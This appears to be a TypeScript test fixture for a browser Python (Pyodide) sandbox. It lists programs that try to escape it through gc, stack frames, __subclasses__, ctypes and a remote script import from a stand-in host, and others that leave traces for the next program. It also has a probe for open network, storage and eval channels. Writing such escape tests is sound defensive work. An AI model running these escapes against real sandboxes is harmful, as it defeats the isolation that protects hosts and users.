// Ways a program might escape from Python, or leave something for the next program.

/** Python's hidden reference to JavaScript. */
const JS =
  "import gc\njs = [o for o in gc.get_objects() if type(o).__name__ == 'JsFinder'][0].jsproxies['js']\n";
const MODULE = (name: string) =>
  `import gc, types\nm = [o for o in gc.get_objects() if type(o) is types.ModuleType and o.__name__ == '${name}'][0]\n`;

/** Each must raise an error, or print nothing but `no`. */
export const ESCAPE_ATTEMPTS: readonly (readonly [name: string, program: string])[] = [
  ['gc and a timer', `${JS}js.setTimeout("import('https://elsewhere.example/x.js')", 0)`],
  [
    'an attribute of a tensor’s handle',
    'import torch\ntorch.ones(1)._handle.constructor.anything = 5',
  ],
  [
    'frames',
    'import sys\nf = sys._getframe()\nwhile f.f_back:\n    f = f.f_back\nf.f_globals["_of_handle"].__globals__["ask"].__globals__["_write"].constructor("return this")',
  ],
  [
    'a traceback',
    'try:\n    1 / 0\nexcept Exception as e:\n    f = e.__traceback__.tb_frame\nwhile f.f_back:\n    f = f.f_back\nf.f_globals["_of_handle"].__globals__["ask"].bind',
  ],
  [
    'ctypes',
    'import _imp, types\nc = _imp.create_builtin(types.SimpleNamespace(name="_ctypes", origin=None))\n_imp.exec_builtin(c)\nc.call_function(c.dlsym(c.dlopen(None, 0), "emscripten_run_script"), (b"1",))',
  ],
  ['_pyodide_core', `${MODULE('_pyodide_core')}m.create_proxy(print).toString()`],
  [
    'pyodide_js',
    "import gc\np = [o for o in gc.get_objects() if type(o).__name__ == 'JsFinder'][0].jsproxies['pyodide_js']\np.runPython('1')",
  ],
  ['run_js', `${MODULE('_pyodide_core')}print(m.run_js("globalThis") and "out")`],
  ['importlib', 'import importlib, sys\nsys.meta_path.pop(0)\nimportlib.import_module("js").fetch'],
  [
    '__subclasses__',
    'c = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"][0]\nc.__init__.__globals__["sys"].modules["torch._channel"]._write.constructor',
  ],
  [
    '__globals__',
    'import torch\ntorch._channel.ask.__globals__["_write"].constructor("return this")()',
  ],
  ['WebAssembly', `${JS}js.WebAssembly.Module`],
  ['a promise', `${JS}js.Promise.resolve(1).then(print)`],
  ['a map of the scope', `${JS}js.as_object_map()["fetch"]`],
  ['the entries of the scope', `${JS}js.object_entries()`],
  ['the text of the scope', `${JS}print(str(js))`],
  [
    'an alarm, which would ring in the next program',
    'import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.001)',
  ],
  ['a file that outlives the program', 'import io\nio.open("/dev/../tmp/kept", "w").write("kept")'],
  ['a folder among the devices', 'import os\nos.mkdir("/dev/kept")'],
  [
    'a file made writable',
    'import fcntl, os\nf = os.open("/lib/python314.zip", os.O_RDONLY)\nfcntl.fcntl(f, fcntl.F_SETFL, os.O_RDWR)\nos.write(f, b"x")',
  ],
  [
    'an operation by the name of what every object has',
    'from torch import _channel\n_channel.ask("constructor", (), ())',
  ],
  [
    'a handle that was never given',
    'import torch\nx = torch.ones(1)\nx._handle = "__proto__"\nprint(x)',
  ],
  [
    'noise in the channel',
    'from torch import _channel\nfor noise in (b"", b"{", b"#123", b"[1, 2]", b\'["sum", [[1, 2]], [], [9]]\'):\n    try:\n        _channel._write(_channel._channel, noise)\n        _channel._read(_channel._channel, 9)\n    except OSError:\n        pass\nprint("no")',
  ],
  [
    'the channel under another number',
    'import os\nfrom torch import _channel\nos.dup2(1, _channel._channel)\nimport torch\ntorch.ones(1)',
  ],
];

/** A program that leaves traces, and one that looks for them. */
export const LEAVE_TRACES =
  'import builtins, math, sys, torch\nmath.kept = torch.ones(1)._handle\nbuiltins.kept = math.kept\nsys.kept = 1\ntry:\n    torch.ones(1)._handle.constructor.anything = 5\nexcept BaseException:\n    pass';
export const FIND_TRACES =
  'import builtins, math, sys, torch\nprint(hasattr(math, "kept"), hasattr(builtins, "kept"), hasattr(sys, "kept"), torch.ones(2).sum())';
export const NO_TRACES = 'False False False tensor(2.)\n';

/**
 * Runs in a page: which channels to network, storage and eval are open to JavaScript in Python's frame. `elsewhere`: a
 * server that answers every request.
 */
export async function findOpenChannels(frame: string, elsewhere: string): Promise<string[]> {
  const attack = (target: string) => {
    const within = (promise: Promise<unknown>) =>
      Promise.race([promise, new Promise((_, fail) => setTimeout(fail, 10_000))]);
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(target, { mode: 'no-cors' }),
      import: () => import(`${target}x.js`),
      importScripts: () =>
        (self as unknown as { importScripts(address: string): void }).importScripts(
          `${target}x.js`,
        ),
      request: () =>
        new Promise((ok, fail) => {
          const request = new XMLHttpRequest();
          request.open('GET', target);
          Object.assign(request, { onload: ok, onerror: fail });
          request.send();
        }),
      socket: () =>
        new Promise((ok, fail) =>
          Object.assign(new WebSocket(target.replace('http', 'ws')), { onopen: ok, onerror: fail }),
        ),
      events: () =>
        new Promise((ok, fail) =>
          Object.assign(new EventSource(target), { onopen: ok, onerror: fail }),
        ),
      'function from text': () => new Function('return 1')(),
      'timer with text': () =>
        new Promise((ok, fail) => {
          Object.assign(self, { ring: ok });
          setTimeout('ring()', 0);
          setTimeout(fail, 1000);
        }),
      'another worker': () =>
        new Promise((ok, fail) =>
          Object.assign(new Worker(`${target}x.js`), { onmessage: ok, onerror: fail }),
        ),
      indexedDB: () =>
        new Promise((ok, fail) =>
          Object.assign(indexedDB.open('x'), { onsuccess: ok, onerror: fail }),
        ),
      // WebKit gives each frame without an origin its own cache, which must be empty for the next.
      'caches of an earlier program': async () => {
        const isKept = await caches.has('x');
        await caches.open('x');
        if (!isKept) throw new Error('new');
      },
      // This must work, or the other results mean nothing.
      WebAssembly: () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)),
    };
    const tried = Object.entries(ways).map(async ([name, way]) => {
      try {
        await within(Promise.resolve(way()));
        return [name];
      } catch {
        return [];
      }
    });
    void Promise.all(tried).then((open) => postMessage(open.flat()));
  };
  const { port1, port2 } = new MessageChannel();
  const element = Object.assign(document.createElement('iframe'), { src: frame });
  const loaded = new Promise((done) => element.addEventListener('load', done));
  document.body.append(element);
  await loaded;
  const sandbox = element.contentWindow!.frames[0]!;
  sandbox.postMessage(`(${attack})(${JSON.stringify(elsewhere)})`, '*', [port2]);
  return new Promise((done) => {
    port1.addEventListener('message', ({ data }) => {
      element.remove();
      done(data as string[]);
    });
    port1.start();
  });
}
